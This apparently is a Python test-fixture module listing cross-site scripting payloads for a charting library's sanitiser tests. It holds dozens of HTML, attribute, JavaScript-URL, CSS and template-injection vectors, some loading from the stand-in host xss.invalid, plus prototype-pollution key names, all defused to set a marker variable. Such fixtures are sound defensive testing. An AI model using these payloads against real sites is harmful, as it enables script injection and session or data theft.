"""Texts that would do something if a page took any of them for markup, code or style.

What they do is always the same: `__xss` becomes a property of the window, or something is asked of the host `xss.invalid`.
"""

from __future__ import annotations

RUN = "window.__xss=1"
_URL = "http://xss.invalid/"

# Each of them runs when it is written by `innerHTML` into a page without a policy.
RUNNING = (
    f'<img src=x onerror="{RUN}">',
    f"<img/src/onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}//\n>",
    f"<svg><svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><image href=x onerror={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN.removeprefix("window.")}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN.removeprefix("window.")}"></iframe>',
    f"<iframe onload={RUN}></iframe>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<style onload={RUN}>*{{color:red}}</style>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;' src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"</title></style></textarea></noscript></template><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}><!--",
    f"]]><img src=x onerror={RUN}>",
    f"\u202e<img src=x onerror={RUN}>\u2066",
    f"%{{x|<img src=x onerror={RUN}>}}<extra></extra>%{{customdata[0]}}",
    "<img src=x onerror=&#119;indow.__xss&#61;1>",
    f"<img src=x onerror\x0b=1 onerror\n=\n{RUN}>",
)
# Each of them needs its own place: an attribute, a script, a style, a link that is clicked, a library that knows more than HTML.
ELSEWHERE = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}",
    f"<script src={_URL}a.js></script>",
    f"<template><img src=x onerror={RUN}></template>",
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" x="',
    f'"}}]}};{RUN};//',
    f"');{RUN};('",
    f"\u2028{RUN}//\u2029",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"%3Cimg%20src=x%20onerror={RUN}%3E",
    f"\uff1cimg src=x onerror={RUN}\uff1e",
    f"<\x00img src=x onerror={RUN}>",
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>parent.{RUN.removeprefix('window.')}</script>",
    f'<a href="javascript:{RUN}" target="_self">plotly</a>',
    f'<a href="{_URL}b">plotly</a><b onmouseover={RUN}>bold</b><br><sup style="background:url({_URL}c)">sup</sup>',
    f'<span style="color:red;background:url({_URL}d)" onclick={RUN}>span</span>',
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}",
    f"<style>@import '{_URL}e';*{{background:url({_URL}f)}}</style>",
    f"}}*{{background:url({_URL}g)}}/*",
    f"red;background:url({_URL}h)",
    f"<link rel=stylesheet href={_URL}i>",
    f'<meta http-equiv=refresh content="0;url={_URL}j">',
    f"<base href={_URL}>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<object data={_URL}k></object><embed src={_URL}l>",
)
ALL = RUNNING + ELSEWHERE
# What charts have a language of their own for, in which there are links and styles.
FOR_CHARTS = tuple(
    text for text in ALL if any(sign in text for sign in ("<a ", "<span ", "%{", "$\\", "javascript:window"))
)

# Names that every JavaScript object has, or has a meaning for (promise S26).
KEYS = (
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "valueOf",
    "__defineGetter__",
    "length",
)
